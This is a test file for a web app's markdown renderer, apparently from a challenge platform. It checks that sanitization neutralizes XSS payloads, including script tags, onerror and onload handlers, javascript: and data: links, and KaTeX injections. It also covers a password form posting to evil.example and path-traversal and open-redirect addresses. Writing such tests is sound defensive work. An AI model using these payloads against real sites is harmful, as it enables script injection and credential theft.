import { render } from '@testing-library/react';
import { hostileMarkdown } from '../testing/hostile-markdown';
import { MemoryRouter } from 'react-router';
import '../testing/without-texts';
import { plugin as codeHighlighting } from './code-highlighting';
import { plugin as formulas } from './formulas';
import { htmlPlugins } from './html';
import { MarkdownBody } from './markdown-body';
import { MarkdownPictures, PictureFolder } from './pictures';
import { loadPlugins, renderMarkdown } from './render-markdown';

function body(source: string, drawing = [formulas, codeHighlighting]) {
  const rendered = renderMarkdown(source, { html: htmlPlugins, drawing });
  if (!rendered) throw new Error('The tree is too large.');
  return <MarkdownBody tree={rendered.tree} />;
}

const html = (source: string) =>
  render(<MemoryRouter initialEntries={['/challenge/detail/7']}>{body(source)}</MemoryRouter>)
    .container;

const FOLDER = '/api/challenges/7/attachments';

/** The URLs of the pictures that are requested for a text of challenge 7. */
function drawn(source: string): string[] {
  const addresses: string[] = [];
  const draw = ({ address }: { address: string }) => {
    addresses.push(address);
    return <b>{address}</b>;
  };
  const { container } = render(
    <MemoryRouter initialEntries={['/challenge/detail/7']}>
      <MarkdownPictures value={draw}>
        <PictureFolder value={FOLDER}>{body(source)}</PictureFolder>
      </MarkdownPictures>
    </MemoryRouter>,
  );
  expect(container.querySelector('img')).toBeNull();
  return addresses;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg onload=alert(1)>',
  '<form action="//evil.example"><input name=password></form>',
  '<style>*{display:none}</style>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox)',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\htmlStyle{background:url(//evil.example)}{x}$',
  '$\\includegraphics{//evil.example/x.png}$',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '[^<img src=x onerror=alert(1)>]: note',
];

describe('markdown', () => {
  it.each(HOSTILE)('renders %s harmless', (source) => {
    const view = html(source);
    expect(view.querySelector('script, iframe, form, style, object, embed, base, meta')).toBeNull();
    for (const element of view.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/i);
        expect(value).not.toMatch(/^\s*(?:javascript|vbscript|data):/i);
        expect(value).not.toMatch(/url\(/i);
      }
    }
    expect(view.querySelector('img[src]')).toBeNull();
  });

  it('renders none of more than a hundred hostile texts to active content', () => {
    expect(hostileMarkdown.length).toBeGreaterThan(100);
    for (const source of hostileMarkdown) {
      const view = html(source);
      const acting = view.querySelector(
        'script, iframe, form, style, object, embed, base, meta, link, template, video, audio, button[formaction]',
      );
      expect([source, acting?.outerHTML ?? null]).toEqual([source, null]);
      for (const element of view.querySelectorAll('*'))
        for (const { name, value } of element.attributes) {
          const attribute = `${source} → ${name}=${value}`;
          expect(attribute).not.toMatch(/→ (?:on\w+|srcdoc|formaction|ping|background|srcset)=/i);
          expect(attribute).not.toMatch(
            /→ (?:href|src|xlink:href|action|data)=\s*(?:javascript|vbscript|data|blob|file|view-source):/i,
          );
          expect([source, /url\(/i.test(value)]).toEqual([source, false]);
          // An id must not clobber a global name.
          if (name === 'id') expect(attribute).toMatch(/→ id=user-content-/);
        }
      view.remove();
    }
  });

  it('sanitizes what a plugin generates', () => {
    const careless = () => (tree: { children: object[] }) => {
      const properties = { src: 'javascript:1', srcDoc: '<script>1</script>', onClick: '1' };
      for (const tagName of ['iframe', 'script', 'p'])
        tree.children.push({ type: 'element', tagName, properties, children: [] });
    };
    const { container } = render(body('text', [careless]), { wrapper: MemoryRouter });
    expect(container.querySelector('iframe, script, [onclick], [src], [srcdoc]')).toBeNull();
    expect(container.querySelectorAll('p')).toHaveLength(2);
  });

  it('opens external links in a new tab without a referrer', () => {
    const link = html('[out](https://example.org/)').querySelector('a');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toContain('noopener noreferrer');
  });

  it('shows an external picture as a link', () => {
    const view = html('![cat](https://example.org/cat.png)');
    expect(view.querySelector('img')).toBeNull();
    expect(view.querySelector('a')?.href).toBe('https://example.org/cat.png');
  });

  it('shows an attachment of its own challenge by its path', () => {
    const plain = [`${FOLDER}/3`];
    expect(drawn(`![x](${FOLDER}/3)`)).toEqual(plain);
    expect(drawn(`![x](${FOLDER}/3?then=1#y)`)).toEqual(plain);
    expect(drawn(`![x](${window.location.origin}${FOLDER}/3)`)).toEqual(plain);
  });

  it.each([
    '/api/auth/logout',
    `${FOLDER}/../../../auth/logout`,
    `${FOLDER}/%2e%2e/%2e%2e/%2e%2e/auth/logout`,
    `${FOLDER}/3/../../../../auth/logout`,
    `${FOLDER}/3%2f..%2f..`,
    `${FOLDER}/3/`,
    `${FOLDER}//3`,
    `${FOLDER}/03`,
    `${FOLDER}/`,
    FOLDER,
    '/api/challenges/8/attachments/3',
    '/api/challenges/7/attachmentsx/3',
    '/api/user/avatar/1',
    '/favicon.svg',
    '/',
    '3',
    'detail/../../../api/auth/logout',
    '//example.org/api/challenges/7/attachments/3',
    '/\\example.org/api/challenges/7/attachments/3',
  ])('draws nothing and fetches nothing for a picture at %s', (address) => {
    expect(drawn(`![x](<${address}>)`)).toEqual([]);
  });

  it('follows links to pages by the router, and others in a new tab', () => {
    const view = html('[a](/rank?group=1#top) [b](9) [c](/api/auth/logout) [d](#note)');
    const links = [...view.querySelectorAll('a')].map((link) => [
      link.getAttribute('href'),
      link.target,
    ]);
    expect(links).toEqual([
      ['/rank?group=1#top', ''],
      ['/challenge/detail/9', ''],
      ['/api/auth/logout', '_blank'],
      ['#note', ''],
    ]);
  });

  it('keeps tables, task lists and code with a copy button', () => {
    const view = html('| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```python\nprint(1)\n```');
    expect(view.querySelectorAll('td')).toHaveLength(2);
    expect(view.querySelector<HTMLInputElement>('input[type=checkbox]')?.disabled).toBe(true);
    expect(view.querySelector('pre code .hljs-built_in')?.textContent).toBe('print');
    expect(view.querySelector('.vx-markdown-code button')).not.toBeNull();
  });

  it('keeps the output of KaTeX, roots and fractions included', () => {
    const view = html('$$\n\\frac{a}{\\sqrt{b}} \\color{red}{c}\n$$');
    expect(view.querySelector('math mfrac')).not.toBeNull();
    expect(view.querySelector('.katex-html svg path')?.getAttribute('d')).toBeTruthy();
    expect(view.querySelector<HTMLElement>('.katex-html .strut')?.style.height).toMatch(/em$/);
  });

  it('links a footnote to its note', () => {
    const view = html('text[^1]\n\n[^1]: the note');
    const target = view.querySelector('sup a')?.getAttribute('href')?.slice(1) ?? '';
    expect(view.querySelector(`li[id="${target}"]`)).not.toBeNull();
  });

  it.each([
    ['# plain `code` and 5 €', 0],
    ['a root: $\\sqrt{b}$', 1],
    ['a root: \\(\\sqrt{b}\\)', 1],
    ['> ```python\n> print(1)\n> ```', 1],
    ['~~~math\n\\sqrt{b}\n~~~', 2],
  ])('fetches for %j no more than it needs', async (source, plugins) => {
    expect(await loadPlugins(source)).toEqual({ drawing: Array(plugins).fill(expect.anything()) });
  });

  it.each([
    '/.//evil.example/x',
    '/..//evil.example/x',
    '/./..//evil.example',
    '/x/..//evil.example/x',
    '/%2e//evil.example/x',
    './/evil.example/../../..//evil.example',
    '/.\\\\evil.example/x',
    '/\t.//evil.example/x',
  ])('takes no link to the router that names another host: %j', (address) => {
    const [link] = html(`[a](<${address}>)`).querySelectorAll('a');
    const href = link?.getAttribute('href') ?? '';
    expect(new URL(href, window.location.origin).origin).toBe(window.location.origin);
    // Neither the router nor the browser may read the path as a host.
    expect(href).not.toMatch(/^[\\/]{2}/);
    expect([href.startsWith('http'), link?.target]).toEqual(
      href.startsWith('http') ? [true, '_blank'] : [false, ''],
    );
  });

  it.each([
    '<b style="position:fixed">x</b>',
    '<span class="katex" style="position:relative;top:-500px">x</span>',
    '<a id="user-content-fnref-1" class="x" href="/rank">x</a>',
    '<code class="language-math">x</code>',
    '<td data-brackets="$ $">x</td>',
  ])('gives HTML of a text none of the styles of plugins: %s', (source) => {
    expect(html(source).querySelector('.vx-markdown [style], [id], [class*=katex]')).toBeNull();
  });
});
